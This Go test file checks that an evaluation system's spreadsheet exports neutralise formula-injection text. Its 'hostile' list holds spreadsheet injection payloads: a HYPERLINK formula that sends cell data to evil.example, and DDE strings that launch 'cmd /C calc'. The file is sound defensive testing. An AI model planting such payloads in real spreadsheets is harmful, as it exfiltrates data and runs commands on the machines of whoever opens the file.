package reports

import (
	"bytes"
	"context"
	"go/ast"
	"go/parser"
	"go/token"
	"io"
	"io/fs"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/evald/evald/evaluation"
	"github.com/evald/evald/evaluation/evaltest"
)

func TestCellText(t *testing.T) {
	for in, want := range map[string]string{
		"=HYPERLINK(\"http://x\")": "'=HYPERLINK(\"http://x\")",
		"+86 138 0000 0000":        "'+86 138 0000 0000",
		"-1":                       "'-1",
		"@SUM(A1:A9)":              "'@SUM(A1:A9)",
		"\t=1+1":                   "'\t=1+1",
		"\r=1+1":                   "'\r=1+1",
		"＝1+1":                     "'＝1+1",
		"窗口=排队":                    "窗口=排队",
		"'=1+1":                    "'=1+1", // already text for a spreadsheet
		"—":                        "—",
		"":                         "",
	} {
		if got := cellText(in); got != want {
			t.Errorf("cellText(%q) = %q, want %q", in, got, want)
		}
	}
	// Only text is guarded: numbers stay numbers, and text inside a stream
	// writer's cell is guarded too.
	for _, v := range []any{-3, -2.5, int64(-7), nil} {
		if got := cellValue(v); got != v {
			t.Errorf("cellValue(%v) = %v", v, got)
		}
	}
	if got := cellValue(excelize.Cell{StyleID: 3, Value: "-x"}); got != (excelize.Cell{StyleID: 3, Value: "'-x"}) {
		t.Errorf("stream cell: %+v", got)
	}
}

// hostile is text a user may enter that a spreadsheet would take for a formula.
var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"点我")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1"}

// xlsxExports is every spreadsheet evald writes, each filled with hostile
// text wherever a user's text goes. A new export adds a line here.
var xlsxExports = []struct {
	name  string
	write func(t *testing.T, w io.Writer) error
}{
	{"round summary", func(t *testing.T, w io.Writer) error {
		data := sampleSummary(12)
		data.RoundName = hostile[0]
		for i := range data.Plans {
			p := &data.Plans[i]
			p.Code, p.Title, p.LeadDepartment = hostile[i%5], hostile[(i+1)%5], hostile[(i+2)%5]
			if p.Grade != "" {
				p.Grade = hostile[(i+3)%5]
			}
		}
		for i := range data.Departments {
			data.Departments[i].Department = hostile[i%5]
		}
		return RoundSummaryXLSX(w, data)
	}},
	{"department scorecard", func(t *testing.T, w io.Writer) error {
		mean, rate := evaluation.Hundredths(8725), evaluation.NewRate(1, 3)
		sc := &evaluation.Scorecard{Year: 2026, Items: []evaluation.ScorecardItem{
			{Rank: 1, DepartmentID: 1, Name: hostile[0], Plans: 2, Results: 2, MeanTotal: &mean,
				Grades: map[string]int{hostile[1]: 1, "优秀": 1}, Findings: 3, Accepted: 1, Rate: rate, Due: 3, OnTime: 1, OnTimeRate: rate},
		}}
		for i := 1; i < 5; i++ { // a department without results or findings: "—" throughout
			sc.Items = append(sc.Items, evaluation.ScorecardItem{Rank: i + 1, DepartmentID: int64(i + 1), Name: hostile[i], Plans: 1,
				Grades: map[string]int{}})
		}
		return ScorecardXLSX(w, sc)
	}},
	{"survey responses", func(t *testing.T, w io.Writer) error {
		world := evaltest.Seed(t, evaltest.New(t, evaluation.SQLite))
		req := evaltest.SurveyRequest()
		req.Title = hostile[0]
		for i := range req.Questions {
			req.Questions[i].Text = hostile[i%5]
		}
		req.Questions[6].Options = []string{hostile[0], hostile[3], "60岁以上"}
		sv := world.PublishedSurvey(req)
		answerSurvey(t, world.Store, *sv.Token,
			map[string]any{"q1": 5, "q2": "否", "q5": 4, "q6": 0, "q7": hostile[0], "q8": hostile[1]},
			map[string]any{"q1": 1, "q2": "否", "q5": 1, "q6": 10, "q7": hostile[3], "q8": hostile[2]},
			map[string]any{"q1": 3, "q2": "否", "q5": 3, "q6": 5, "q8": hostile[4]})
		ctx := context.Background()
		res, err := world.Store.SurveyResults(ctx, evaluation.System, sv.ID)
		if err != nil {
			t.Fatal(err)
		}
		return SurveyResponsesXLSX(w, sv, res, world.Store.SurveyResponses(ctx, sv.ID), evaltest.Shanghai)
	}},
	{"plan list", func(t *testing.T, w io.Writer) error {
		var plans []evaluation.Plan
		for i := range hostile {
			plans = append(plans, evaluation.Plan{Code: hostile[i], Title: hostile[(i+1)%5], LeadDepartmentID: 1,
				ApprovedBy: hostile[(i+2)%5], IssuedOn: "2026-01-02", Field: hostile[(i+3)%5], Summary: hostile[(i+4)%5]})
		}
		return PlansXLSX(w, plans, map[int64]string{1: hostile[0]})
	}},
	{"finding list", func(t *testing.T, w io.Writer) error {
		var fs []evaluation.FindingView
		for i := range hostile {
			fs = append(fs, evaluation.FindingView{ID: int64(i + 1), Round: evaluation.RoundRef{Name: hostile[i]},
				Plan: evaluation.PlanRef{Code: hostile[(i+1)%5], Title: hostile[(i+2)%5]}, IndicatorCode: "A1",
				Severity: "major", Description: hostile[(i+3)%5], Recommendation: hostile[(i+4)%5], Status: "open"})
		}
		return FindingsXLSX(w, fs, evaltest.Shanghai)
	}},
	{"user list", func(t *testing.T, w io.Writer) error {
		var us []evaluation.User
		for i := range hostile {
			org := int64(i)
			us = append(us, evaluation.User{Username: "u" + hostile[i], DisplayName: hostile[i], Role: "viewer",
				OrgID: &org, Email: hostile[(i+1)%5]})
		}
		return UsersXLSX(w, us, map[int64]string{0: hostile[2], 1: hostile[3]}, evaltest.Shanghai)
	}},
	{"audit log", func(t *testing.T, w io.Writer) error {
		var es []evaluation.AuditEvent
		for i := range hostile {
			es = append(es, evaluation.AuditEvent{ID: int64(i + 1), ActorName: hostile[i], Action: hostile[(i+1)%5],
				Entity: hostile[(i+2)%5], Before: hostile[(i+3)%5], After: hostile[(i+4)%5]})
		}
		return AuditXLSX(w, es, evaltest.Shanghai)
	}},
	{"rectification progress", func(t *testing.T, w io.Writer) error {
		r := &evaluation.Rectification{}
		for i := range hostile {
			r.Plans = append(r.Plans, evaluation.PlanRectification{Code: hostile[i], Title: hostile[(i+1)%5],
				DepartmentID: int64(i), Published: 2, Accepted: 1, Rate: evaluation.NewRate(1, 2)})
			r.Departments = append(r.Departments, evaluation.DepartmentRectification{DepartmentID: int64(i), Name: hostile[(i+2)%5]})
		}
		return RectificationXLSX(w, r)
	}},
	{"plan import template", func(t *testing.T, w io.Writer) error {
		saved := PlanTemplateSample
		t.Cleanup(func() { PlanTemplateSample = saved })
		PlanTemplateSample = append([]string{}, hostile...)
		PlanTemplateSample = append(PlanTemplateSample, hostile[0], hostile[1])
		return PlanImportTemplateXLSX(w)
	}},
}

// TestExportsNeutraliseFormulas reads every export back: no cell holds a
// formula or text that starts like one, and the hostile text is there,
// behind the apostrophe.
func TestExportsNeutraliseFormulas(t *testing.T) {
	for _, x := range xlsxExports {
		t.Run(x.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := x.write(t, &buf); err != nil {
				t.Fatal(err)
			}
			f, err := excelize.OpenReader(&buf)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			guarded := map[string]bool{}
			for _, sheet := range f.GetSheetList() {
				rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
				if err != nil {
					t.Fatal(err)
				}
				for r, row := range rows {
					for c, v := range row {
						ref, err := excelize.CoordinatesToCellName(c+1, r+1)
						if err != nil {
							t.Fatal(err)
						}
						if formula, err := f.GetCellFormula(sheet, ref); err != nil || formula != "" {
							t.Errorf("%s!%s holds a formula %q (%v)", sheet, ref, formula, err)
						}
						typ, err := f.GetCellType(sheet, ref)
						if err != nil {
							t.Fatal(err)
						}
						first, _ := utf8.DecodeRuneInString(v)
						number := typ == excelize.CellTypeUnset || typ == excelize.CellTypeNumber
						if v != "" && strings.ContainsRune(formulaStarts, first) && !number {
							t.Errorf("%s!%s = %q (type %v) starts like a formula", sheet, ref, v, typ)
						}
						if text, ok := strings.CutPrefix(v, formulaGuard); ok {
							if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
								t.Errorf("%s!%s = %q is of type %v, not text", sheet, ref, v, typ)
							}
							guarded[text] = true
						}
					}
				}
			}
			for _, h := range hostile {
				if !guarded[h] && !guarded[strings.TrimSpace(h)] { // the domain trims what users type
					t.Errorf("no cell holds %q behind %q; guarded: %v", h, formulaGuard, guarded)
				}
			}
		})
	}
}

// TestSpreadsheetCellsAreWrittenInOnePlace: excelize's cell setters are
// called only in xlsx_cell.go, so no export can bypass cellValue.
func TestSpreadsheetCellsAreWrittenInOnePlace(t *testing.T) {
	setters := map[string]bool{"SetCellValue": true, "SetCellStr": true, "SetCellDefault": true, "SetCellRichText": true,
		"SetCellFormula": true, "SetSheetRow": true, "SetSheetCol": true, "SetRow": true, "SetCellInt": true,
		"SetCellUint": true, "SetCellFloat": true, "SetCellBool": true, "SetCellHyperLink": true, "AddTable": true}
	root := ".." // the module
	allowed := filepath.Join("reports", "xlsx_cell.go")
	inAllowed := 0
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			switch d.Name() {
			case "third_party", "node_modules", "frontend", ".git":
				return filepath.SkipDir
			}
			return nil
		}
		if !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		file, err := parser.ParseFile(token.NewFileSet(), path, nil, 0)
		if err != nil {
			return err
		}
		rel, err := filepath.Rel(root, path)
		if err != nil {
			return err
		}
		ast.Inspect(file, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			if sel, ok := call.Fun.(*ast.SelectorExpr); ok && setters[sel.Sel.Name] {
				if rel == allowed {
					inAllowed++
				} else {
					t.Errorf("%s calls %s: write spreadsheet cells through %s", rel, sel.Sel.Name, allowed)
				}
			}
			return true
		})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if inAllowed == 0 {
		t.Fatalf("found no cell setter in %s: the check looks in the wrong place", allowed)
	}
}
